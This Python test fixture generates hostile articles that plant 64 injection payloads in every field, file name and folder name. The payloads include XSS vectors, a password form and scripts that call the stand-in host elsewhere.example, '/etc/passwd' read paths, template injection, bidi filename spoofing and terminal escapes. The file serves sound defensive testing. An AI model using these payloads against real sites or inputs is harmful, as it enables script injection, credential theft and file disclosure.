"""Articles that try to be more than text: 64 payloads in every field, file and folder name."""

import json
from dataclasses import dataclass
from pathlib import Path

_LETTERS = "bdfgklmp"
_AWAY = "http://elsewhere.example"

# What an attacker writes; the folder names below are attacks, too.
_PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script from elsewhere": f"<script src={_AWAY}/x.js></script>",
    "script that closes the page's own": "</script><script>document.title='owned'</script>",
    "script with odd writing": "<ScRiPt/x>alert`1`</sCrIpT >",
    "script nested to survive one pass": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "image error": f'<img src="{_AWAY}/t.png" onerror="document.title=1">',
    "image without quotes or end": "<img src=x onerror=alert(1) ",
    "image set": f"<picture><source srcset='{_AWAY}/p.png'><img srcset='{_AWAY}/s.png 2x'></picture>",
    "body handler": "<body onload=alert(1) onpageshow=alert(2)>",
    "focus handler": "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(2)>",
    "pointer handlers": "<a onmouseover=alert(1) onpointerenter=alert(2)>hover</a>",
    "details handler": "<details open ontoggle=alert(1)><summary>more</summary></details>",
    "animation handler": "<b style='animation:spin 1s' onanimationstart=alert(1)>turn</b>",
    "media": f"<video src={_AWAY}/v.mp4 autoplay onerror=alert(1)></video><audio src={_AWAY}/a.mp3>",
    "javascript link": '<a href="javascript:alert(1)">press</a>',
    "javascript link with a tab": '<a href="java\tscript:alert(1)">press</a>',
    "javascript link in entities": '<a href="&#106;avascript&colon;alert(1)">press</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">press</a>',
    "vbscript link": "<a href='vbscript:msgbox(1)'>press</a>",
    "bare javascript address": "javascript:alert(document.domain)",
    "bare data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "svg script": "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "svg animation": "<svg><animate attributeName=href to=javascript:x /><use href=data:image/svg+xml,x /></svg>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "frame": f"<iframe src={_AWAY}/frame></iframe>",
    "frame with its page": "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
    "object and embed": f"<object data={_AWAY}/o></object><embed src={_AWAY}/e>",
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={_AWAY}/">',
    "base": f"<base href='{_AWAY}/'>",
    "link elements": f"<link rel=stylesheet href={_AWAY}/c.css><link rel=prefetch href={_AWAY}/p>",
    "style import": f"<style>@import url({_AWAY}/c.css); body {{ display: none }}</style>",
    "style attribute": f"<p style=\"background:url('{_AWAY}/b.png');position:fixed;inset:0\">over all</p>",
    "form": f"<form action={_AWAY}/login><input name=password type=password><button>Sign in</button></form>",
    "template and slot": "<template><script>alert(1)</script></template><slot name=x></slot>",
    "own element": "<gradio-app src=http://elsewhere.example/></gradio-app><x-y onclick=alert(1)>",
    "names that hide the page's": "<form id=question><input name=textContent></form><a id=copy></a>",
    "closing tags": "</section></article></bdi></blockquote></a></p></main></body></html><h1>free</h1>",
    "closing text areas": "</title></textarea></style></noscript></pre><img src=x onerror=alert(1)>",
    "out of an attribute": "\" onmouseover=\"alert(1)\" x=\" ' onfocus='alert(2)' autofocus x='",
    "comment": "<!-- --><!--><img src=x onerror=alert(1)>--> <![CDATA[ x ]]> <?php echo 1 ?>",
    "latex": "$$\\href{javascript:alert(1)}{x}$$ $x^2$ \\(y\\) \\[z\\] \\begin{equation}w\\end{equation}",
    "latex with trust": f"$$\\includegraphics{{{_AWAY}/t.png}}$$ \\htmlClass{{a}}{{b}}",
    "markdown image": f"![pixel]({_AWAY}/m.png) ![ref][1]\n\n[1]: {_AWAY}/r.png",
    "markdown links": f"[press](javascript:alert(1)) [log in]({_AWAY}/) <{_AWAY}/auto> https://elsewhere.example/bare",
    "markdown after blank lines": f"first\n\n![x]({_AWAY}/b.png)\n\n# Big\n\n- **bold** _soft_ `code`",
    "markdown after carriage returns": f"first\r\r![x]({_AWAY}/c.png)\r\r<b onclick=x>\x0b\x0c\x85\u2028\u2029last",
    "footnote": f"note[^1] ~~gone~~ ^[inline]\n\n[^1]: <img src={_AWAY}/f.png onerror=alert(1)>",
    "diagram": '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]-->B; click A "javascript:alert(1)"\n```',
    "table": f"| a | b |\n|---|---|\n| <b onclick=alert(1)>1</b> | ![x]({_AWAY}/t.png) |",
    "override": "invoice\u202egpj.exe \u202dforced\u202c \u202bembedded",
    "isolates that close too often": "\u2069\u2069\u202eecived \u2066x\u2069 \u202eneppah",
    "hebrew and arabic": "שלום <b>עולם</b> مرحبا\u200f 123 \u200e(abc)",
    "no width": "pass\u200bword\u2060 ja\u200dva\u200cscript\ufeff:\u00adalert(1)",
    "controls": "bell\x07 escape\x1b[31m\x1b]0;owned\x07 back\x08\x08 delete\x7f csi\x9b2J nul\x00<b>",
    "tag characters": "flag\U000e0041\U000e0042\U000e007f private\ue000 <i>",
    "combining heap": "Z" + "\u0322" * 9 + "\u0347" * 9 + "\u0310" * 9 + " <b>",
    "a word without end": "W" * 900,
    "an address without end": f"{_AWAY}/" + "a%20b-" * 150 + "<b>",
    "templates": "{{7*7}} {% raw %} {# x #} ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}",
    "format fields": "{name} {0} {} {names!r:>9} {question.__class__} %s %(x)s {{{",
    "entities": "&lt;b&gt; &amp;amp; &#60;i&#62; &#x3c;u&#x3e; &nbsp; &copy &notin;",
    "gradio": 'src="/file=/etc/passwd" /gradio_api/file=/etc/passwd <br> {"path": "/etc/passwd"} <think>x</think>',
    "gradio translation": '__i18n__{"__type__":"translation_metadata","key":"common.submit"}',
    "look of ours": '<p class="notice">Who?</p> <mark>so</mark> <section class="answer">x</section> [1] “quoted” <b',
}

# What of these is shown, where that is not all: nobody sees the rest, so the index leaves it out.
_SHOWN = {
    "no width": "password ja\u200dva\u200cscript:alert(1)",
    "controls": "bell escape[31m]0;owned back delete csi2J nul<b>",
}

_FOLDERS = [
    "<img src=x onerror=alert(1)>",
    '"><script>alert(1)<',
    "javascript:alert(1)",
    "' onclick='alert(1)",
    "{{7*7}} ${x} {name}",
    "&lt;b&gt; &amp; %3Cb%3E",
    '__i18n__{"__type__":"translation_metadata","key":"common.submit"}',
    "%2e%2e%2f ![x](http:) $$x$$",
]


@dataclass(frozen=True, slots=True)
class Case:
    """One attack. `word` stands in its articles alone; `shown` is how people must see the payload.

    `formatted` and `plain` are the ids of its Markdown article and its raw one.
    """

    name: str
    payload: str
    shown: str
    word: str
    folder: str
    formatted: str
    plain: str

    @property
    def title(self) -> str:
        return " ".join(f"{self.word} {self.shown}".split())


def _case(number: int, folder: str, name: str) -> Case:
    payload = _PAYLOADS[name]
    word = f"Kor{_LETTERS[number // 8]}al{_LETTERS[number % 8]}um"
    file = "".join(c for c in payload.replace("/", "\N{FRACTION SLASH}") if c.isprintable())[:60]
    stem = f"{folder}/{number:02} {file}"
    return Case(name, payload, _SHOWN.get(name, payload), word, folder, f"{stem} m", f"{stem} t")


CASES = [_case(number, _FOLDERS[number // 8], name) for number, name in enumerate(_PAYLOADS)]


def write_hostile(folder: Path) -> None:
    """A Markdown article and a raw text for each case."""
    for case in CASES:
        for article, ending, text in ((case.formatted, ".md", _markdown(case)), (case.plain, ".txt", _raw(case))):
            path = folder / f"{article}{ending}"
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(text.encode())


def address(case: Case) -> str:
    """A source's address with as much of the payload as an address can hold."""
    return "https://elsewhere.example/?x=" + "".join(case.shown.split())


def _front(**fields: object) -> str:
    return "---\n" + "".join(f"{name}: {json.dumps(v, ensure_ascii=False)}\n" for name, v in fields.items()) + "---\n"


def _markdown(case: Case) -> str:
    told = f"{case.word} tells {case.payload}"
    line = case.payload.replace("\n", " ").replace("\r", " ")
    sources = [
        {"title": case.payload, "publisher": case.payload, "date": case.payload, "url": case.payload},
        {"title": "Known", "publisher": case.payload, "date": "2024", "url": address(case)},
    ]
    front = _front(
        title=f"{case.word} {case.payload}",
        publisher=case.payload,
        published="2024-05-06",
        url=case.payload,
        sources=sources,
    )
    return (
        f"{front}\n# {line}\n\n{told}\n\n- {line}\n- {line}\n\n"
        f"| Place | {line.replace('|', '/')} |\n|---|---|\n| here | {line.replace('|', '/')} |\n\n"
        f"~~~~~~~~\n{case.payload}\n~~~~~~~~\n"
    )


def _raw(case: Case) -> str:
    front = _front(title=f"{case.word} {case.payload}", published=case.payload, url=address(case))
    return f"{front}\nThis is a note on {case.word}.\n\n{case.word} says {case.payload}\n"
